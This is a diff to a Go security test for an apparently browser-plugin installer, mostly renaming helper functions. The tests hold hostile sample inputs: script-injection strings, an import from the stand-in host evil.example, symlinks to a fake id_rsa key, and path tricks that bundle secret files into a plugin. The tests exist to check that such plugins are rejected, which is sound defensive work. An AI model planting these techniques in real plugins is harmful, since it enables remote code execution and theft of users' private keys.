@@ -19,8 +19,8 @@ func TestAttackByPlugin(t *testing.T) {
 			`await / "(" ; }); EVIL(); (function(){ "x)" /g`, "<!-- \n}); EVIL(); (function(){", "}, EVIL(), function(){",
 			"export default EVIL()", "import 'https://evil.example/x.js'", "let globalThis = window", "\xff});",
 		} {
-			dirs, dir := freshPlugin(t)
-			writeIn(t, dir, "dist/adapter.iife.js", code)
+			dirs, dir := createBuiltPlugin(t)
+			writeFile(t, dir, "dist/adapter.iife.js", code)
 			if out, err := opentabsCommand(t, dirs, "plugin", "add", dir).CombinedOutput(); err == nil {
 				t.Errorf("%q was added: %s", code, out)
 			}
@@ -29,10 +29,10 @@ func TestAttackByPlugin(t *testing.T) {
 	t.Run("files of the package that link to the user's secrets", func(t *testing.T) {
 		const secret = `S3CRET"name":`
 		for _, file := range []string{"dist/adapter.iife.js", "dist/tools.json", "package.json"} {
-			dirs, dir := freshPlugin(t)
-			private := filepath.Join(t.TempDir(), "id_rsa")
+			dirs, dir := createBuiltPlugin(t)
+			privateFile := filepath.Join(t.TempDir(), "id_rsa")
 			path := filepath.Join(dir, file)
-			if err := errors.Join(os.WriteFile(private, []byte(secret+"\nS3CRET line two\n"), 0o600), os.Remove(path), os.Symlink(private, path)); err != nil {
+			if err := errors.Join(os.WriteFile(privateFile, []byte(secret+"\nS3CRET line two\n"), 0o600), os.Remove(path), os.Symlink(privateFile, path)); err != nil {
 				t.Fatal(err)
 			}
 			out, err := opentabsCommand(t, dirs, "plugin", "add", dir).CombinedOutput()
@@ -42,19 +42,19 @@ func TestAttackByPlugin(t *testing.T) {
 		}
 	})
 	t.Run("a source that bundles the user's secrets into the plugin", func(t *testing.T) {
-		private := filepath.Join(t.TempDir(), "secret.json")
-		if err := os.WriteFile(private, []byte(`{"a":"S3CRET"}`), 0o600); err != nil {
+		privateFile := filepath.Join(t.TempDir(), "secret.json")
+		if err := os.WriteFile(privateFile, []byte(`{"a":"S3CRET"}`), 0o600); err != nil {
 			t.Fatal(err)
 		}
 		for _, source := range []string{
-			`import x from "` + private + `"; export default x;`,
-			`import x from "` + private + `" with { type: "text" }; console.log(x);`,
-			`import x from "../../../../../../../../../..` + private + `"; console.log(x);`,
-			`console.log(require("` + private + `"));`,
-			`import("` + private + `").then(console.log);`,
+			`import x from "` + privateFile + `"; export default x;`,
+			`import x from "` + privateFile + `" with { type: "text" }; console.log(x);`,
+			`import x from "../../../../../../../../../..` + privateFile + `"; console.log(x);`,
+			`console.log(require("` + privateFile + `"));`,
+			`import("` + privateFile + `").then(console.log);`,
 		} {
-			dirs, dir := freshPlugin(t)
-			writeIn(t, dir, "src/index.ts", source)
+			dirs, dir := createBuiltPlugin(t)
+			writeFile(t, dir, "src/index.ts", source)
 			if err := os.RemoveAll(filepath.Join(dir, "dist")); err != nil {
 				t.Fatal(err)
 			}
@@ -70,21 +70,21 @@ func TestAttackByPlugin(t *testing.T) {
 	})
 }
 
-// freshPlugin returns new directories and a built plugin that was not added.
-func freshPlugin(t *testing.T) (dirs config.Dirs, dir string) {
+// createBuiltPlugin returns new directories and a built plugin that was not added.
+func createBuiltPlugin(t *testing.T) (dirs config.Dirs, dir string) {
 	t.Helper()
-	base := t.TempDir()
-	dirs = config.Dirs{Config: filepath.Join(base, "home"), State: filepath.Join(base, "home")}
-	dir = filepath.Join(base, "messages")
-	writeIn(t, dir, "package.json", `{"name": "opentabs-plugin-messages", "version": "1.0.0", "main": "dist/adapter.iife.js",
+	baseDir := t.TempDir()
+	dirs = config.Dirs{Config: filepath.Join(baseDir, "home"), State: filepath.Join(baseDir, "home")}
+	dir = filepath.Join(baseDir, "messages")
+	writeFile(t, dir, "package.json", `{"name": "opentabs-plugin-messages", "version": "1.0.0", "main": "dist/adapter.iife.js",
 		"opentabs": {"displayName": "Messages", "description": "For tests", "urlPatterns": ["*://localhost/*"]}}`)
-	writeIn(t, dir, "dist/adapter.iife.js", `(() => {})();`)
-	writeIn(t, dir, "dist/tools.json", `{"sdkVersion": "0.0.1", "tools": [
+	writeFile(t, dir, "dist/adapter.iife.js", `(() => {})();`)
+	writeFile(t, dir, "dist/tools.json", `{"sdkVersion": "0.0.1", "tools": [
 		{"name": "echo", "description": "Echo", "input_schema": {"type": "object"}, "output_schema": {"type": "object"}}]}`)
 	return dirs, dir
 }
 
-func writeIn(t *testing.T, dir, name, text string) {
+func writeFile(t *testing.T, dir, name, text string) {
 	t.Helper()
 	path := filepath.Join(dir, name)
 	if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700), os.WriteFile(path, []byte(text), 0o600)); err != nil {
